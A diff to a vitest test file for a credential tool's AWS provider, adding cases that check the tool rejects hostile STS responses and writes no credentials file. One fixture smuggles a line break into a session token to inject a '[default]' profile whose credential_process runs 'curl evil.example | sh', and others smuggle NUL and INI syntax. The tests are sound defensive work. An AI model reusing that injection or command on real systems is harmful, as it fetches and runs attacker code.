@@ -1,11 +1,11 @@
-import { readFileSync, statSync } from 'node:fs';
+import { readdirSync, readFileSync, statSync } from 'node:fs';
 import { describe, expect, it } from 'vitest';
-import { startAwsSts, throttled } from '../fakes/aws-sts.js';
+import { type AwsStsOptions, startAwsSts, throttled } from '../fakes/aws-sts.js';
 import { errorCodes, oidcAudiences, world } from './setup.js';
 
 const ROLE = 'arn:aws:iam::123456789012:role/deploy';
 
-async function awsWorld(options: { allowedSubjects?: string[]; maxSessionDuration?: number } = {}) {
+async function awsWorld(options: { allowedSubjects?: string[]; maxSessionDuration?: number; hostile?: NonNullable<AwsStsOptions['hostile']> } = {}) {
   const w = await world();
   const sts = w.adopt(await startAwsSts({ trustedIssuer: w.runner.issuer, ...options }));
   const entry = (extra = '') => `- provider: aws\n  role: ${ROLE}\n  region: eu-west-1\n  sts-endpoint: ${sts.url}/${extra}`;
@@ -108,6 +108,26 @@ describe('provider: aws', () => {
     w.expectNoLeaks([main, post]);
   });
 
+  it.each([
+    ['a line break that adds a profile the SDK would run', { SessionToken: 'IQoJb3JpZ2luX2Vj\n[default]\ncredential_process = sh -c "curl evil.example | sh"' }, 'SessionToken in a form that is not printable ASCII'],
+    ['a NUL in the secret key', { SecretAccessKey: 'wJalrXUtnFEMI/K7MDENG\u0000bPxRfiCYEXAMPLEKEY' }, 'SecretAccessKey in a form that is not printable ASCII'],
+    ['an access key id outside its documented alphabet', { AccessKeyId: 'ASIA[default]' }, 'AccessKeyId in a form that is not 16–128 upper-case letters and digits'],
+    ['quotes and a comment that INI parsers read differently', { SessionToken: 'IQoJb3Jp"x";#y' }, 'aws_session_token cannot be written into the AWS shared credentials file'],
+  ])('refuses a session with %s: no credentials file, nothing exported', async (_name, hostile, message) => {
+    const w = await awsWorld({ hostile });
+    const main = await w.main({ credentials: `${w.entry()}\n  profile: deploy` });
+    expect(main.code).toBe(1);
+    expect(errorCodes(main)).toEqual(['HTTP_BAD_RESPONSE']);
+    expect(main.stdout).toContain(`aws "aws": `);
+    expect(main.stdout).toContain(message);
+    expect(main.stdout).not.toContain('credential_process');
+    expect(main.stdout).not.toContain('[default]');
+    expect(main.files.env).toBe('');
+    // Only the audit record: no credentials file, no private folder.
+    expect(readdirSync(w.job.temp).filter((name) => !name.startsWith('keyless-audit-'))).toEqual([]);
+    w.expectNoLeaks([main]);
+  });
+
   it('uses AWS_ENDPOINT_URL_STS, as the AWS SDKs do, when no sts-endpoint is set', async () => {
     const w = await awsWorld();
     const main = await w.main({ credentials: `- provider: aws\n  role: ${ROLE}\n  region: us-east-1` }, { AWS_ENDPOINT_URL_STS: w.sts.url });
@@ -116,7 +136,7 @@ describe('provider: aws', () => {
   });
 
   it.each([
-    ['a role that is not an ARN', 'role: deploy', /credentials\[0\]\.role \(line 2\): "deploy" is not a role ARN/],
+    ['a role that is not an ARN', 'role: deploy', /credentials\[0\]\.role \(line 2\): is not a role ARN/],
     ['a duration beyond 12 hours', 'duration: 13h', /duration \(line 4\): 13h is outside 900s–43200s/],
     ['a session policy that is not JSON', "session-policy: '{nope'", /session-policy \(line 4\): is not valid JSON/],
     ['session tags', 'session-tags: {team: a}', /takes session tags from the token/],
